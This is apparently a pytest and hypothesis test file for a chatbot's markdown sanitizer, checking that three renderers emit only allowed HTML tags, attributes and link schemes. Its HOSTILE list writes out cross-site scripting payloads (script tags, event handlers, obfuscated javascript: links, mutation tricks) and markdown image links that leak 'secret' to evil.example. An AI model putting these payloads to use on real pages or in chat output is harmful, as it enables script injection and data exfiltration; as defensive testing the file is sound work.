"""Whatever text comes in, only allowed tags, attributes and schemes go out."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.markdown import (
    ATTRIBUTES,
    HEADINGS,
    SCHEMES,
    TAGS,
    render_article,
    render_message,
    render_plain,
    words_of,
)

RENDERERS = [render_article, render_message, render_plain]
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/pixel.png?text=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<style>@import 'https://evil.example'</style>",
    "<a href='javascript:alert(1)'>x</a>",
    'https://evil.example/"onclick=alert(1)',
    "[x](//evil.example/a)",
    "\\<script>alert(1)\\</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a\u202ertl<b>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
MARKS = st.sampled_from(
    ["#", "*", "_", "`", "[", "]", "(", ")", "!", "<", ">", "|", "\n", "-", "&", ":", "//"]
)
WILD = st.lists(st.one_of(MARKS, st.sampled_from(HOSTILE), st.text(max_size=8)), max_size=25).map("".join)


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


ALLOWED = {
    **{tag: set() for tag in TAGS},
    **ATTRIBUTES,
    **{tag: {"id"} for tag in HEADINGS},
    "a": {"href", "title", "rel", "target"},
}


def check(html: str) -> list[tuple[str, dict[str, str | None]]]:
    found = Tags(html).found
    for tag, attributes in found:
        assert tag in ALLOWED, html
        assert set(attributes) <= ALLOWED[tag], html
        href = attributes.get("href")
        if href is not None and not href.startswith(("#", "/help/")):
            assert urlsplit(href).scheme in SCHEMES, html
        if tag == "a":
            assert "noopener" in attributes["rel"]
    return found


@pytest.mark.parametrize("render", RENDERERS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(render, text):
    check(render(text))


@given(WILD)
def test_whatever_is_written_only_allowed_html_comes_out(text):
    for render in RENDERERS:
        check(render(text))


@given(st.text(alphabet=st.characters(exclude_characters="\r\n\x00", exclude_categories=["Cs"]), max_size=60))
def test_a_customers_characters_are_shown_as_they_are(text):
    shown: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = shown.append  # type: ignore[method-assign, assignment]
    parser.feed(render_plain(text))
    parser.close()
    assert "".join(shown) == text


def test_messages_load_nothing_from_elsewhere():
    html = render_message(
        "![chart](https://evil.example/?q=secret) and [![a](https://e.example/b.png)](https://x.example)"
    )
    assert "<img" not in html and "evil.example" not in html and "chart" in html


def test_links_in_messages_say_where_they_lead_and_open_beside_the_chat():
    html = render_message("[your bank](https://evil.example/login)")
    assert 'title="evil.example"' in html and 'target="_blank"' in html
    assert 'rel="noopener nofollow ugc"' in html


def test_messages_keep_line_breaks_lists_and_tables():
    html = render_message("One\nTwo\n\n- a\n- b\n\n| x | y |\n|---|--:|\n| 1 | 2 |")
    assert "One<br>" in html and "<li>a</li>" in html and '<td class="align-right">2</td>' in html


def test_plain_text_links_only_what_has_a_scheme_or_is_an_address():
    html = render_plain("See https://shop.example/a?b=1&c=2 or me@shop.org, not is.it\n*bold*")
    assert 'href="https://shop.example/a?b=1&amp;c=2"' in html
    assert 'href="mailto:me@shop.org"' in html
    assert html.count("<a ") == 2 and "<br>*bold*" in html


def test_article_headings_start_at_level_two_and_carry_anchors():
    html = render_article("# One\n\n### Two\n\n> # Quoted", heading=lambda text, level: text.lower())
    assert '<h2 id="one">' in html and '<h4 id="two">' in html and '<h2 id="quoted">' in html


def test_a_heading_that_repeats_the_title_is_left_out():
    html = render_article("# Title\n\n## Part", heading=lambda text, level: None if level == 1 else "part")
    assert "Title" not in html and '<h2 id="part">Part</h2>' in html


def test_relative_links_of_articles_are_resolved_or_dropped():
    links = {"other.md#part": "/help/en/7-other/#part"}
    html = render_article("[a](other.md#part) [b](gone.md) [c](#here) [d](https://x.example)", link=links.get)
    assert 'href="/help/en/7-other/#part"' in html and 'href="#here"' in html and "https://x.example" in html
    assert "gone.md" not in html and ">b</a>" in html


def test_pictures_in_articles_become_links():
    html = render_article("![The label](https://cdn.example/label.png)")
    assert (
        "<img" not in html and '<a href="https://cdn.example/label.png" rel="noopener">The label</a>' in html
    )


def test_a_message_is_told_in_one_line_of_words() -> None:
    said = "**Special cases** [1]\n\n| a | b |\n|---|---|\n| 1 < 2 | `x` |\n\n- one\n- two [2]"
    assert words_of(said) == "Special cases a b 1 < 2 x one two"
